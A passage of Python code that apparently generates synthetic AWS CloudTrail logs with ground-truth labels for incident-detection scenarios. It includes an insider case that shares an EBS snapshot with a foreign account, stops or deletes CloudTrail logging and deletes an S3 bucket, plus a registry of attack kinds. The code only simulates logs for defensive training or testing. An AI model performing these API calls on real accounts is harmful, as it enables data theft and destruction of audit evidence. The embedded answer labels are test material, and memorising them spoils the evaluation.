        w.call(t + 7 * HOUR, {'type': 'AWSAccount', 'accountId': FOREIGN, 'principalId': ''}, 'AWS Internal' if r.random() < .5 else 'ec2.amazonaws.com', 'ec2.amazonaws.com', 'ec2',
               r.choice(['SharedSnapshotCopyInitiated', 'SharedSnapshotVolumeCreated']), None, None, bad=True, top={'serviceEventDetails': {'snapshotId': snap}, 'eventType': 'AwsServiceEvent', 'recipientAccountId': w.account})
    else:
        w.call(t, p, p.place, p.agent, 'rds', 'ModifyDBSnapshotAttribute', {'dBSnapshotIdentifier': 'final-' + w.hex(4), 'attributeName': 'restore', 'valuesToAdd': ['all']}, {})
    truth.may |= {p.arn, p.key, p.place}
    truth.also = {'undetermined'}
    truth.cuts = ['cloudtrail']
    return truth


# ---- the owner's own hand
def insider(w):
    """An employee at the usual desk, with MFA, takes what they may and cleans up behind."""
    r, truth = w.rng, Truth('valid_credentials_known_origin')
    p = r.choice(w.staff)
    p.mfa = True
    for day in range(w.days):
        console_day(w, p, day, mfa=True)
        cli_day(w, p, day)
    t = w.work_time(w.days - 1)
    w.login(t, p, p.place, p.browser, mfa=True, bad=True)
    h = Hand(w, truth, Session(w, t, person=p, mfa=True, console=True), p.place, p.browser)
    h.t = t + 60
    truth.entry, truth.slack = t, DAY
    h.read(r.randrange(80, 400))
    h.do('ec2', 'ModifySnapshotAttribute', {'snapshotId': 'snap-' + w.hex(17), 'attributeType': 'CREATE_VOLUME_PERMISSION', 'createVolumePermission': {'add': {'items': [{'userId': FOREIGN}]}}})
    h.do('cloudtrail', r.choice(['StopLogging', 'DeleteTrail']), {'name': 'main'})
    h.do('s3', 'DeleteBucket', {'bucketName': w.buckets[1]})
    truth.may.add(p.key)
    truth.also = {'undetermined'}
    truth.cuts = ['cloudtrail']
    return truth


def nothing(w):
    return Truth('no_incident')


KINDS = {f.__name__: f for f in (
    key_leaked, key_forgotten, key_refused, key_chained, key_to_console, key_password, key_slow, key_root, key_quarantined,
    role_stolen, role_endpoint, function_stolen, password_guessed, password_sprayed, password_known,
    web_command, web_log4shell, web_ssrf, web_shell, web_files, ssh_guessed, bucket_public, snapshot_public, insider, nothing)}
